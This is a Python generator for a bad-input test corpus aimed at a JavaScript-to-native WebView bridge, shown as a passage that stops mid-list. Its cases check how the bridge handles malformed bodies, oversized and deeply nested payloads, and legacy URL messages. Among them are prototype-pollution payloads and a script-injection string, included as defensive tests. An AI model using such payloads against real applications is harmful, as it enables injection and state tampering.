#!/usr/bin/env python3
"""Writes the bad-input corpus (Tests/Corpus) that BadInputCorpusTests runs.

The corpus is checked in; this script is how it was made, so cases can be added and the offline
packages' md5 sums and the binary (invalid UTF-8) files regenerated. Run it from anywhere:

    python3 Tests/Corpus/generate.py

Layout (see README.md next to this file):
  messages.jsonl  in-process cases: {"name", "kind", "input", "expect", "config"?, "method"?,
                  "params"?, "seen"?, "check"?, "knownIssue"?}
  files.jsonl     CLI cases: {"name", "args", "status", "stderr"?, "stdout"?, "notOutput"?, "knownIssue"?}
  schemas.jsonl   schema files that must be refused: {"name", "file", "reason", "line"?}
  schemas/ html/ offline/ utf8/   the files those cases use
"""
import hashlib
import json
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
REL = "Tests/Corpus"

MIB64 = "(64 << 20)"


def write(path, data, mode="w"):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(full, "wb") as f:
        f.write(data)


def jsonl(path, rows):
    names = set()
    for r in rows:
        assert r["name"] not in names, r["name"]
        names.add(r["name"])
    write(path, "".join(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n" for r in rows))


# --------------------------------------------------------------------------------------------
# messages.jsonl
UNSETTLED = "bug: a message that native post() refuses never settles in JS: BridgeEngine+Natives.swift \"post\" refuses a body it cannot read (too many UTF-8 bytes, or a JSON parse failure such as nesting past maxDepth + 2) with refuse(callbackId: nil, ...), because the callbackId is inside the unread envelope, so the bridge.call promise stays pending forever and a bridge.post callback never runs. Fix: have the prelude pass body.callbackId to native.post as its own argument (postRaw knows it) and refuse with it"

# kinds:
#   params        bridge.call(method ?? 'echo', (input)) -> the promise's outcome
#   post          webkit.messageHandlers.bridge.postMessage((input)) -> the engine's error/result events
#   body          postMessage(JSON.parse(input)) (input is exact JSON text) -> events
#   url           engine.offerURL(input) (legacy URL protocol) -> events
#   iframe        an <iframe> whose src is input -> events
#   jsResult      bridge.register('corpus', function (p) { return (input); }); callJS('corpus', params)
#   nativeResult  a native handler answers with input (JSON); JS calls it -> promise outcome
#   nativeError   a native handler fails with input ({code, message, details}) -> promise outcome
#   emit          engine.emit('corpus', input); a bridge.on listener stores the payload as r
# expect: an error code, "OK", or "THROW:<ErrorName>" (the call threw / rejected without a code).
# check: a JS expression over r (the result value) that must be true.
# --------------------------------------------------------------------------------------------
M = []


def case(name, kind, input, expect, **extra):
    row = {"name": name, "kind": kind, "input": input, "expect": expect}
    row.update(extra)
    M.append(row)


# ---- wrong shapes (exact JSON bodies) ----
for name, body in [
    ("body null", "null"), ("body true", "true"), ("body false", "false"), ("body number", "42"),
    ("body negative zero", "-0"), ("body string", '"echo"'), ("body empty string", '""'),
    ("body empty array", "[]"), ("body array of a message", '[{"method":"echo"}]'),
    ("body empty object", "{}"), ("body params only", '{"params":{}}'),
    ("body callbackId only", '{"callbackId":"g1"}'),
    ("method null", '{"method":null}'), ("method number", '{"method":1}'), ("method zero", '{"method":0}'),
    ("method true", '{"method":true}'), ("method empty", '{"method":""}'), ("method array", '{"method":["echo"]}'),
    ("method object", '{"method":{"name":"echo"}}'), ("method nested in params", '{"params":{"method":"echo"}}'),
    ("params number", '{"method":"echo","params":1}'), ("params string", '{"method":"echo","params":"x"}'),
    ("params array", '{"method":"echo","params":[1,2]}'), ("params empty array", '{"method":"echo","params":[]}'),
    ("params true", '{"method":"echo","params":true}'), ("params false", '{"method":"echo","params":false}'),
    ("callbackId object", '{"method":"echo","callbackId":{}}'), ("callbackId array", '{"method":"echo","callbackId":["g1"]}'),
    ("callbackId true", '{"method":"echo","callbackId":true}'),
]:
    case(name, "body", body, "INVALID_MESSAGE")
for name, body, expect in [
    ("params null is {}", '{"method":"echo","params":null}', "OK"),
    ("callbackId number is read as a string", '{"method":"echo","callbackId":7}', "OK"),
    ("callbackId null means no answer", '{"method":"echo","callbackId":null}', "OK"),
    ("unknown extra keys are ignored", '{"method":"echo","params":{},"x":1,"y":[null]}', "OK"),
    ("later duplicate method key wins", '{"method":"nope","method":"echo"}', "OK"),
    ("unknown method", '{"method":"no.such.action"}', "METHOD_NOT_FOUND"),
    ("method with spaces", '{"method":"  echo  "}', "METHOD_NOT_FOUND"),
    ("method with NUL", '{"method":"echo\\u0000x"}', "METHOD_NOT_FOUND"),
    ("method with newline", '{"method":"echo\\n"}', "METHOD_NOT_FOUND"),
    ("method with U+2028", '{"method":"echo\\u2028"}', "METHOD_NOT_FOUND"),
    ("method __proto__", '{"method":"__proto__"}', "METHOD_NOT_FOUND"),
    ("method constructor", '{"method":"constructor"}', "METHOD_NOT_FOUND"),
    ("method prototype", '{"method":"prototype"}', "METHOD_NOT_FOUND"),
    ("method hasOwnProperty", '{"method":"hasOwnProperty"}', "METHOD_NOT_FOUND"),
    ("method toString", '{"method":"toString"}', "METHOD_NOT_FOUND"),
    ("method emoji", '{"method":"\U0001F4A5"}', "METHOD_NOT_FOUND"),
    ("callbackId __proto__", '{"method":"echo","callbackId":"__proto__"}', "OK"),
    ("callbackId constructor", '{"method":"echo","callbackId":"constructor"}', "OK"),
    ("callbackId of a pending-looking SDK id", '{"method":"echo","callbackId":"cb_999999"}', "OK"),
    ("callbackId empty string", '{"method":"echo","callbackId":""}', "OK"),
    ("body-level __proto__ key", '{"method":"echo","__proto__":{"method":"evil","polluted":true}}', "OK"),
    ("body-level constructor.prototype", '{"method":"echo","constructor":{"prototype":{"polluted":true}}}', "OK"),
]:
    case(name, "body", body, expect)
case("very long method name", "post", "({method: 'm'.repeat(100000)})", "METHOD_NOT_FOUND")

# ---- bodies that are not plain data (posted as JS values) ----
for name, js in [
    ("post undefined", "undefined"), ("post nothing (void 0)", "void 0"), ("post a function", "function () {}"),
    ("post an arrow function", "() => 1"), ("post a Symbol", "Symbol('s')"), ("post a BigInt", "10n"),
    ("post NaN", "NaN"), ("post Infinity", "Infinity"), ("post a Date", "new Date(0)"),
    ("post an invalid Date", "new Date(NaN)"), ("post a boxed string", "new String('echo')"),
    ("post an Error", "new Error('e')"), ("post a Map", "new Map([['method', 'echo']])"),
    ("post a Set", "new Set(['echo'])"), ("post a RegExp", "/echo/"), ("post a Promise", "Promise.resolve({method: 'echo'})"),
    ("post the global object", "globalThis"), ("post an inherited method", "Object.create({method: 'echo'})"),
    ("post a getter that throws", "({ get method() { throw new Error('getter boom'); } })"),
    ("post a proxy whose ownKeys throws", "new Proxy({}, { ownKeys() { throw new Error('ownKeys boom'); } })"),
    ("post a cyclic body", "(function () { var b = {method: 'echo'}; b.self = b; return b; })()"),
    ("post a method that is a function", "({method: function echo() {}})"),
    ("post a method that is a Symbol", "({method: Symbol('echo')})"),
    ("post a callbackId that is a function", "({method: 'echo', callbackId: function () {}})"),
    ("post a callbackId that is a Symbol", "({method: 'echo', callbackId: Symbol('x')})"),
    ("post params that is a function", "({method: 'echo', params: function () {}})"),
    ("post params that is a Map", "({method: 'echo', params: new Map()})"),
    ("post params that is a Date", "({method: 'echo', params: new Date(0)})"),
    ("post params that is a typed array", "({method: 'echo', params: new Uint8Array(2)})"),
]:
    case(name, "post", js, "INVALID_MESSAGE")
case("post a method that is a boxed string (JSON makes it a string)", "post", "({method: new String('echo')})", "OK")
case("post a 64 MiB string body", "post", "'x'.repeat(%s)" % MIB64, "PAYLOAD_TOO_LARGE")
case("post a null-prototype message", "post",
     "(function () { var o = Object.create(null); o.method = 'echo'; o.params = {a: 1}; return o; })()", "OK",
     seen={"a": 1})
case("post a frozen message", "post", "Object.freeze({method: 'echo', params: Object.freeze({a: 1})})", "OK", seen={"a": 1})
case("post a message with a toJSON that throws", "post", "({method: 'echo', toJSON: function () { throw new Error('toJSON boom'); }})",
     "THROW:Error")
case("post a message whose callbackId names a global function", "post",
     "(globalThis.corpusCb = function (p) { globalThis.corpusCbGot = p; }, {method: 'echo', params: {a: 1}, callbackId: 'corpusCb'})",
     "OK", check="globalThis.corpusCbGot && globalThis.corpusCbGot.result.a === 1 && globalThis.corpusCbGot.error === null")
case("post to a handler name that does not exist", "post_other", "({method: 'echo'})", "THROW:TypeError")

# ---- every unsendable value, in params (the path must be named) ----
unsendable = [
    ("NaN", "NaN"), ("Infinity", "Infinity"), ("-Infinity", "-Infinity"), ("0/0", "0/0"), ("1/0", "1/0"),
    ("Math.sqrt(-1)", "Math.sqrt(-1)"), ("Number.MAX_VALUE * 2", "Number.MAX_VALUE * 2"),
    ("a function", "function f() {}"), ("an arrow function", "() => 0"), ("a class", "class K {}"),
    ("an async function", "async function a() {}"), ("a generator function", "function* g() {}"),
    ("a bound function", "Math.max.bind(null)"), ("a native function", "Math.max"),
    ("a Symbol", "Symbol('s')"), ("a well-known Symbol", "Symbol.iterator"), ("a registered Symbol", "Symbol.for('k')"),
    ("a BigInt", "1n"), ("a huge BigInt", "2n ** 200n"), ("a negative BigInt", "-5n"),
    ("a Map", "new Map([[1, 2]])"), ("an empty Map", "new Map()"), ("a Set", "new Set([1])"),
    ("a WeakMap", "new WeakMap()"), ("a WeakSet", "new WeakSet()"), ("a RegExp literal", "/a+b/g"),
    ("a RegExp object", "new RegExp('x', 'i')"), ("a Promise", "Promise.resolve(1)"),
    ("a pending Promise", "new Promise(function () {})"), ("a thenable", "({then: function () {}})"),
    ("an async function's result", "(async function () { return 1; })()"),
    ("a DataView", "new DataView(new ArrayBuffer(4))"), ("an invalid Date", "new Date(NaN)"),
    ("an unparsable Date", "new Date('not a date')"), ("a Date past the range", "new Date(8.64e15 + 1)"),
]
for label, js in unsendable:
    case("params.v is " + label, "params", "{v: %s}" % js, "INVALID_MESSAGE", messageHas="params.v")
for label, js in [
    ("NaN in a nested array", "{a: [1, [2, [NaN]]]}"), ("a Symbol three levels down", "{a: {b: {c: Symbol('deep')}}}"),
    ("a function in an array of objects", "{list: [{ok: 1}, {cb: function () {}}]}"),
    ("a Map inside an array", "{list: [new Map()]}"), ("Infinity as an object key's value among good ones", "{a: 1, b: 'x', c: Infinity}"),
    ("a self cycle", "(function () { var o = {}; o.self = o; return o; })()"),
    ("an array cycle", "(function () { var a = [1]; a.push(a); return {a: a}; })()"),
    ("an indirect cycle", "(function () { var a = {}, b = {a: a}; a.b = b; return {a: a}; })()"),
    ("a cycle 100 levels down", "(function () { var top = {}, o = top; for (var i = 0; i < 100; i++) { o.n = {}; o = o.n; } o.back = top; return top; })()"),
    ("a getter that throws", "({ get v() { throw new Error('getter boom'); } })"),
    ("a getter returning NaN", "({ get v() { return NaN; } })"),
    ("a proxy that throws on get", "new Proxy({v: 1}, { get() { throw new Error('proxy boom'); } })"),
    ("an arguments object with a function", "(function () { return {args: arguments}; })(function () {})"),
]:
    case("params with " + label, "params", js, "INVALID_MESSAGE")
for label, js in [
    ("a number", "5"), ("a string", "'params'"), ("an array", "[1, 2]"), ("true", "true"),
]:
    case("params is " + label, "params", js, "INVALID_MESSAGE")
case("params is null (sent as {})", "params", "null", "OK", seen={})
case("params is undefined (sent as {})", "params", "undefined", "OK", seen={})
case("method is a number", "params_method", "42", "THROW:TypeError")
case("method is empty", "params_method", "''", "THROW:TypeError")
case("method is an object", "params_method", "({})", "THROW:TypeError")
case("method is missing", "params_method", "undefined", "THROW:TypeError")

# ---- what crosses, documented (not silently dropped) ----
case("undefined members are omitted", "params", "{a: undefined, b: 1}", "OK", seen={"b": 1})
case("a valid Date crosses as an ISO string", "params", "{d: new Date(0)}", "OK", seen={"d": "1970-01-01T00:00:00.000Z"})
case("a Uint8Array crosses as numbers", "params", "{b: new Uint8Array([1, 2, 255])}", "OK", seen={"b": [1, 2, 255]})
case("an ArrayBuffer crosses as bytes", "params", "{b: new Uint8Array([7, 8]).buffer}", "OK", seen={"b": [7, 8]})
case("a sparse array crosses with nulls", "params", "{a: [1, , 3]}", "OK", seen={"a": [1, None, 3]})
case("-0 crosses as 0", "params", "{z: -0}", "OK", seen={"z": 0})
case("NaN in a Float64Array is refused", "params", "{f: new Float64Array([1, NaN])}", "INVALID_MESSAGE")
case("Infinity in a Float32Array is refused", "params", "{f: new Float32Array([Infinity])}", "INVALID_MESSAGE")
case("a toJSON returning NaN is refused", "params", "{v: {toJSON: function () { return NaN; }}}", "INVALID_MESSAGE")

# ---- deep nesting ----
def nest(kind, n, leaf="1"):
    if kind == "obj":
        return "(function () { var o = %s; for (var i = 0; i < %d; i++) o = {n: o}; return o; })()" % (leaf, n)
    if kind == "arr":
        return "(function () { var o = %s; for (var i = 0; i < %d; i++) o = [o]; return o; })()" % (leaf, n)
    return "(function () { var o = %s; for (var i = 0; i < %d; i++) o = (i %% 2) ? [o] : {n: o}; return o; })()" % (leaf, n)

case("objects nested 127 deep in params are accepted", "params", "{v: %s}" % nest("obj", 126), "OK")
case("objects nested 129 deep in params are refused", "params", "{v: %s}" % nest("obj", 128), "INVALID_MESSAGE")
case("arrays nested 200 deep", "params", "{v: %s}" % nest("arr", 200), "INVALID_MESSAGE")
case("objects nested 100k deep", "params", "{v: %s}" % nest("obj", 100000), "INVALID_MESSAGE")
case("arrays nested 100k deep", "params", "{v: %s}" % nest("arr", 100000), "INVALID_MESSAGE")
case("objects and arrays nested 100k deep", "params", "{v: %s}" % nest("mix", 100000), "INVALID_MESSAGE")
case("a body nested 100k deep", "post", nest("obj", 100000, "{method: 'echo'}"), "INVALID_MESSAGE")
case("JSON text nested 100k deep, parsed then posted", "post",
     "(function () { try { return {method: 'echo', params: {v: JSON.parse('['.repeat(100000) + ']'.repeat(100000))}}; } catch (e) { return {method: 'echo', params: {v: Symbol('JSON.parse refused it')}}; } })()",
     "INVALID_MESSAGE")
case("a toJSON returning 200-deep nesting", "params", "{v: {toJSON: function () { return %s; }}}" % nest("arr", 200),
     "INVALID_MESSAGE")
case("a toJSON returning 100k-deep nesting", "params", "{v: {toJSON: function () { return %s; }}}" % nest("arr", 100000),
     "INVALID_MESSAGE")

# ---- huge strings, long arrays, big messages ----
case("a 64 MiB string in params", "params", "{s: 'x'.repeat(%s)}" % MIB64, "PAYLOAD_TOO_LARGE", fast=True)
case("a 64 MiB string deep in an array", "params", "{a: [1, [2, ['x'.repeat(%s)]]]}" % MIB64, "PAYLOAD_TOO_LARGE", fast=True)
case("a 64 MiB rope string", "params", "{s: 'ab'.repeat(16 << 20) + 'cd'.repeat(16 << 20)}", "PAYLOAD_TOO_LARGE", fast=True)
case("a 64 MiB string body with wide limits", "post", "'x'.repeat(%s)" % MIB64, "PAYLOAD_TOO_LARGE", config="wideStrings", fast=True)
case("a 64 MiB string in params with wide limits", "params", "{s: 'x'.repeat(%s)}" % MIB64, "PAYLOAD_TOO_LARGE", config="wideStrings", fast=True)
case("a 64 MiB key", "params", "(function () { var o = {}; o['k'.repeat(%s)] = 1; return o; })()" % MIB64, "PAYLOAD_TOO_LARGE", fast=True)
case("a string of exactly the limit", "params", "{s: 'x'.repeat(1 << 20)}", "OK")
case("a string one over the limit", "params", "{s: 'x'.repeat((1 << 20) + 1)}", "PAYLOAD_TOO_LARGE")
case("a key one over the string limit", "params", "(function () { var o = {}; o['k'.repeat((1 << 20) + 1)] = 1; return o; })()",
     "PAYLOAD_TOO_LARGE")
case("a toJSON returning a string over the limit", "params", "{v: {toJSON: function () { return 'x'.repeat((1 << 20) + 1); }}}",
     "PAYLOAD_TOO_LARGE")
case("five strings of 1 MiB (message over 4 MiB)", "params",
     "{a: 'x'.repeat(1 << 20), b: 'x'.repeat(1 << 20), c: 'x'.repeat(1 << 20), d: 'x'.repeat(1 << 20), e: 'x'.repeat(1 << 20)}",
     "PAYLOAD_TOO_LARGE")
case("a message over the limit when measured in UTF-8 bytes", "params", "{s: '\\u00e9'.repeat(700 * 1024)}", "PAYLOAD_TOO_LARGE",
     config="utf8Bytes")
case("a body over the limit in UTF-8 bytes is reported by the engine", "post", "({method: 'echo', params: {s: '\\u00e9'.repeat(700 * 1024)}})",
     "PAYLOAD_TOO_LARGE", config="utf8Bytes")
case("a message of 2 KiB with a 1 KiB limit", "params", "{s: 'x'.repeat(2048)}", "PAYLOAD_TOO_LARGE", config="smallMessages")
case("a message just under a 1 KiB limit", "params", "{s: 'x'.repeat(900)}", "OK", config="smallMessages")
case("a body over the limit with a callbackId naming a global", "post",
     "(globalThis.corpusBig = function (p) { globalThis.corpusBigGot = p.error && p.error.code; }, {method: 'echo', params: {a: 'x'.repeat(1 << 20), b: 'x'.repeat(1 << 20), c: 'x'.repeat(1 << 20), d: 'x'.repeat(1 << 20), e: 'x'.repeat(1 << 20)}, callbackId: 'corpusBig'})",
     "PAYLOAD_TOO_LARGE", check="globalThis.corpusBigGot === 'PAYLOAD_TOO_LARGE'")
case("an array of exactly the limit", "params", "{a: new Array(100000).fill(0)}", "OK")
case("an array one over the limit", "params", "{a: new Array(100001).fill(0)}", "PAYLOAD_TOO_LARGE")
case("a sparse array of a billion elements", "params", "{a: new Array(1e9)}", "PAYLOAD_TOO_LARGE", fast=True)
case("an array of length 2^32-1", "params", "(function () { var a = []; a.length = 4294967295; return {a: a}; })()", "PAYLOAD_TOO_LARGE", fast=True)
case("a typed array over the limit", "params", "{a: new Uint8Array(100001)}", "PAYLOAD_TOO_LARGE")
case("a 1 GiB-long typed array view", "params", "{a: new Uint8Array(new ArrayBuffer(1 << 30))}", "PAYLOAD_TOO_LARGE", fast=True)
case("an ArrayBuffer over the array limit", "params", "{a: new ArrayBuffer(100001)}", "PAYLOAD_TOO_LARGE")
case("a nested array over the limit", "params", "{a: [[new Array(100001).fill(1)]]}", "PAYLOAD_TOO_LARGE")

# ---- lone surrogates and odd characters ----
for label, s in [("\\uD800", "'\\uD800'"), ("\\uDFFF", "'\\uDFFF'"), ("a\\uD800b", "'a\\uD800b'"),
                 ("a reversed pair", "'\\uDC00\\uD800'"), ("a high surrogate at the end", "'ok\\uDBFF'")]:
    case("a lone surrogate " + label + " in a value", "params", "{s: %s}" % s, "INVALID_MESSAGE", messageHas="surrogate")
case("a lone surrogate in a key", "params", "(function () { var o = {}; o['\\uD800'] = 1; return o; })()", "INVALID_MESSAGE",
     messageHas="surrogate")
case("a lone surrogate in the method", "post", "({method: 'echo\\uD800'})", "INVALID_MESSAGE")
case("a lone surrogate in the callbackId", "post", "({method: 'echo', callbackId: 'cb\\uD800'})", "INVALID_MESSAGE")
case("a valid surrogate pair crosses", "params", "{s: '\\uD83D\\uDCA5'}", "OK", seen={"s": "\U0001F4A5"}, check="r.s === '\\uD83D\\uDCA5'")
case("U+2028 and U+2029 cross both ways", "params", "{s: 'a\\u2028b\\u2029c'}", "OK", seen={"s": "a\u2028b\u2029c"},
     check="r.s === 'a\\u2028b\\u2029c'")
case("NUL and control characters cross both ways", "params", "{s: '\\u0000\\u0001\\u001f'}", "OK", seen={"s": "\u0000\u0001\u001f"},
     check="r.s === '\\u0000\\u0001\\u001f'")
case("</script> and quotes cross as data", "params", "{s: '</script><script>globalThis.polluted = 1</script>\"\\''}", "OK",
     check="r.s.indexOf('</script>') === 0")

# ---- __proto__ / constructor / prototype keys, params side (never alter prototypes) ----
proto_params = [
    ("an own __proto__ key", "JSON.parse('{\"__proto__\": {\"polluted\": true}}')", {"__proto__": {"polluted": True}}),
    ("a nested own __proto__ key", "{a: JSON.parse('{\"__proto__\": {\"polluted\": true}}')}", {"a": {"__proto__": {"polluted": True}}}),
    ("__proto__ in an array element", "{list: [JSON.parse('{\"__proto__\": {\"polluted\": 1}}')]}", {"list": [{"__proto__": {"polluted": 1}}]}),
    ("__proto__ set to null", "JSON.parse('{\"__proto__\": null}')", {"__proto__": None}),
    ("__proto__ set to a string", "JSON.parse('{\"__proto__\": \"polluted\"}')", {"__proto__": "polluted"}),
    ("constructor.prototype", "{constructor: {prototype: {polluted: true}}}", {"constructor": {"prototype": {"polluted": True}}}),
    ("a prototype key", "{prototype: {polluted: true}}", {"prototype": {"polluted": True}}),
    ("Object.prototype method names as keys", "{hasOwnProperty: 1, toString: 'x', valueOf: null, __defineGetter__: 2}",
     {"hasOwnProperty": 1, "toString": "x", "valueOf": None, "__defineGetter__": 2}),
    ("__proto__ and constructor together", "JSON.parse('{\"__proto__\": {\"polluted\": 1}, \"constructor\": {\"prototype\": {\"polluted\": 2}}}')",
     {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 2}}}),
]
for label, js, seen in proto_params:
    case("params with " + label, "params", js, "OK", seen=seen,
         check="Object.getPrototypeOf(r) === Object.prototype && r.polluted === undefined")
case("a literal __proto__ only sets that object's prototype", "params", "{__proto__: {polluted: true}, a: 1}", "OK", seen={"a": 1})

# ---- results and errors coming back (native -> JS) ----
for label, value in [
    ("an own __proto__ key", {"__proto__": {"polluted": True}}),
    ("constructor.prototype", {"constructor": {"prototype": {"polluted": True}}}),
    ("__proto__ inside an array", [{"__proto__": {"polluted": True}}]),
    ("a deep __proto__", {"a": {"b": {"__proto__": {"polluted": True}}}}),
    ("a prototype key", {"prototype": {"polluted": True}}),
    ("__proto__ null", {"__proto__": None}),
]:
    case("a native result with " + label, "nativeResult", value, "OK",
         check="Object.getPrototypeOf(r) === (Array.isArray(r) ? Array.prototype : Object.prototype) && r.polluted === undefined && JSON.stringify(r).indexOf('__proto__') + JSON.stringify(r).indexOf('prototype') > -2")
case("a native result that is a string with </script>", "nativeResult", "</script>\u2028\"'", "OK", check="r === '</script>\\u2028\"\\''")
case("a native result with a lone-surrogate-looking escape text", "nativeResult", "\\ud800", "OK", check="r === '\\\\ud800'")
case("a native result nested 120 deep", "nativeResult", json.loads("[" * 120 + "]" * 120), "OK", check="Array.isArray(r)")
case("a native error with __proto__ details", "nativeError",
     {"code": "DENIED", "message": "no", "details": {"__proto__": {"polluted": True}}}, "DENIED",
     check="r.details && Object.prototype.hasOwnProperty.call(r.details, '__proto__') && r.polluted === undefined")
case("a native error whose code is __proto__", "nativeError", {"code": "__proto__", "message": "x"}, "__proto__")
case("an event payload with __proto__", "emit", {"__proto__": {"polluted": True}}, "OK",
     check="Object.prototype.hasOwnProperty.call(r, '__proto__') && r.polluted === undefined")
case("an event payload with constructor.prototype", "emit", {"constructor": {"prototype": {"polluted": True}}}, "OK",
     check="r.constructor.prototype.polluted === true && ({}).polluted === undefined")

# ---- JS handlers called from native (callJS) ----
for label, js in [("NaN", "NaN"), ("Infinity", "-Infinity"), ("a function", "function () {}"), ("a Symbol", "Symbol('r')"),
                  ("a BigInt", "7n"), ("a Map", "new Map()"), ("a Set", "new Set()"), ("a WeakMap", "new WeakMap()"),
                  ("a RegExp", "/r/"), ("a DataView", "new DataView(new ArrayBuffer(1))"), ("an invalid Date", "new Date(NaN)"),
                  ("a cycle", "(function () { var o = {}; o.o = o; return o; })()"), ("a lone surrogate", "'\\uD800'"),
                  ("nesting 100k deep", nest("obj", 100000)), ("a promise of NaN", "Promise.resolve({v: NaN})"),
                  ("a promise of a promise of a Symbol", "Promise.resolve(Promise.resolve([Symbol('s')]))")]:
    case("a JS handler returning " + label, "jsResult", js, "INVALID_MESSAGE")
case("a JS handler returning 64 MiB", "jsResult", "'x'.repeat(%s)" % MIB64, "PAYLOAD_TOO_LARGE", fast=True)
case("a JS handler returning an array over the limit", "jsResult", "new Array(100001).fill(1)", "PAYLOAD_TOO_LARGE")
case("a JS handler that throws", "jsResult", "(function () { throw new Error('handler boom'); })()", "HANDLER_ERROR")
case("a JS handler that throws a number", "jsResult", "(function () { throw 42; })()", "HANDLER_ERROR")
case("a JS handler that throws null", "jsResult", "(function () { throw null; })()", "HANDLER_ERROR")
case("a JS handler that rejects", "jsResult", "Promise.reject(new TypeError('rejected'))", "HANDLER_ERROR")
case("a JS handler that rejects with undefined", "jsResult", "Promise.reject()", "HANDLER_ERROR")
case("a JS handler that never settles", "jsResult", "new Promise(function () {})", "TIMEOUT")
case("a JS handler whose then throws", "jsResult", "({then: function () { throw new Error('then boom'); }})", "HANDLER_ERROR")
case("a JS handler whose thenable settles twice", "jsResult", "({then: function (ok, no) { ok({first: 1}); ok({second: 2}); no(new Error('x')); }})",
     "OK", seen={"first": 1})
case("a JS handler returning undefined", "jsResult", "undefined", "OK", seen=None)
case("a JS handler returning __proto__ data", "jsResult", "JSON.parse('{\"__proto__\": {\"polluted\": true}}')", "OK",
     seen={"__proto__": {"polluted": True}})
case("a JS handler given __proto__ params", "jsResult", "Object.getPrototypeOf(p) === Object.prototype && p.polluted === undefined ? 'clean' : 'polluted'",
     "OK", params={"__proto__": {"polluted": True}, "constructor": {"prototype": {"polluted": True}}}, seen="clean")
case("no JS handler registered under the name", "jsResultMissing", "1", "METHOD_NOT_FOUND")

# ---- legacy URL protocol, all the ways to get it wrong ----
def enc(s):
    from urllib.parse import quote
    return quote(s, safe="")

for label, url, expect in [
    ("scheme only", "hybrid:", "INVALID_MESSAGE"),
    ("no path, no query", "hybrid://", "INVALID_MESSAGE"),
    ("no query", "hybrid://bridge", "INVALID_MESSAGE"),
    ("an empty query", "hybrid://bridge?", "INVALID_MESSAGE"),
    ("another query item", "hybrid://bridge?foo=" + enc('{"action":"echo"}'), "INVALID_MESSAGE"),
    ("parameter without =", "hybrid://bridge?parameter", "INVALID_MESSAGE"),
    ("an empty parameter", "hybrid://bridge?parameter=", "INVALID_MESSAGE"),
    ("a lone %", "hybrid://bridge?parameter=%", "INVALID_MESSAGE"),
    ("%zz", "hybrid://bridge?parameter=%zz", "INVALID_MESSAGE"),
    ("a truncated UTF-8 escape", "hybrid://bridge?parameter=%E0%A4", "INVALID_MESSAGE"),
    ("an invalid UTF-8 escape", "hybrid://bridge?parameter=" + enc('{"action":"echo","s":"') + "%FF%FE" + enc('"}'), "INVALID_MESSAGE"),
    ("an overlong UTF-8 escape", "hybrid://bridge?parameter=" + enc('{"action":"echo","s":"') + "%C0%AF" + enc('"}'), "INVALID_MESSAGE"),
    ("a surrogate encoded in UTF-8", "hybrid://bridge?parameter=" + enc('{"action":"echo","s":"') + "%ED%A0%80" + enc('"}'), "INVALID_MESSAGE"),
    ("text that is not JSON", "hybrid://bridge?parameter=not-json", "INVALID_MESSAGE"),
    ("unencoded JSON with a space", "hybrid://bridge?parameter={\"action\": \"echo\"", "INVALID_MESSAGE"),
    ("a JSON number", "hybrid://bridge?parameter=1", "INVALID_MESSAGE"),
    ("a JSON array", "hybrid://bridge?parameter=" + enc("[]"), "INVALID_MESSAGE"),
    ("a JSON string", "hybrid://bridge?parameter=" + enc('"echo"'), "INVALID_MESSAGE"),
    ("JSON null", "hybrid://bridge?parameter=null", "INVALID_MESSAGE"),
    ("no action", "hybrid://bridge?parameter=" + enc("{}"), "INVALID_MESSAGE"),
    ("a numeric action", "hybrid://bridge?parameter=" + enc('{"action":1}'), "INVALID_MESSAGE"),
    ("an empty action", "hybrid://bridge?parameter=" + enc('{"action":""}'), "INVALID_MESSAGE"),
    ("a null action", "hybrid://bridge?parameter=" + enc('{"action":null}'), "INVALID_MESSAGE"),
    ("an object action", "hybrid://bridge?parameter=" + enc('{"action":{"name":"echo"}}'), "INVALID_MESSAGE"),
    ("a numeric callback", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":1}'), "INVALID_MESSAGE"),
    ("an object callback", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":{}}'), "INVALID_MESSAGE"),
    ("an array callback", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":["f"]}'), "INVALID_MESSAGE"),
    ("a lone surrogate escape", "hybrid://bridge?parameter=" + enc('{"action":"echo","s":"\\ud800"}'), "INVALID_MESSAGE"),
    ("NaN in the JSON", "hybrid://bridge?parameter=" + enc('{"action":"echo","v":NaN}'), "INVALID_MESSAGE"),
    ("trailing text after the JSON", "hybrid://bridge?parameter=" + enc('{"action":"echo"} x'), "INVALID_MESSAGE"),
    ("a trailing comma", "hybrid://bridge?parameter=" + enc('{"action":"echo",}'), "INVALID_MESSAGE"),
    ("single-quoted JSON", "hybrid://bridge?parameter=" + enc("{'action':'echo'}"), "INVALID_MESSAGE"),
    ("an unknown action", "hybrid://bridge?parameter=" + enc('{"action":"no.such.action"}'), "METHOD_NOT_FOUND"),
    ("an empty callback (no answer)", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":""}'), "OK"),
    ("a callback naming no function", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":"noSuchFunction"}'), "OK"),
    ("a callback named __proto__", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":"__proto__"}'), "OK"),
    ("a callback naming a non-function global", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":"document"}'), "OK"),
    ("__proto__ in the params", "hybrid://bridge?parameter=" + enc('{"action":"echo","__proto__":{"polluted":true}}'), "OK"),
    ("a repeated parameter (last wins)", "hybrid://bridge?parameter=" + enc('{"action":"nope"}') + "&parameter=" + enc('{"action":"echo"}'), "OK"),
    ("a fragment after the parameter", "hybrid://bridge?parameter=" + enc('{"action":"echo"}') + "#frag", "OK"),
    ("an upper-case scheme", "HYBRID://bridge?parameter=" + enc('{"action":"echo"}'), "OK"),
    ("no authority", "hybrid:?parameter=" + enc('{"action":"echo"}'), "OK"),
    ("a raw + kept as a plus", "hybrid://bridge?parameter=" + enc('{"action":"echo","s":"') + "a+b" + enc('"}'), "OK"),
    ("an encoded NUL", "hybrid://bridge?parameter=" + enc('{"action":"echo","s":"a') + "%00" + enc('b"}'), "INVALID_MESSAGE"),
]:
    case("legacy URL with " + label, "url", url, expect)
case("legacy URL with 100k-deep JSON", "url_deep", "100000", "INVALID_MESSAGE")
case("legacy URL with a 5 MiB parameter", "url_big", "5", "PAYLOAD_TOO_LARGE")
for label, url, expect in [
    ("no query", "hybrid://bridge", "INVALID_MESSAGE"),
    ("bad percent-encoding", "hybrid://bridge?parameter=%zz", "INVALID_MESSAGE"),
    ("not JSON", "hybrid://bridge?parameter=nope", "INVALID_MESSAGE"),
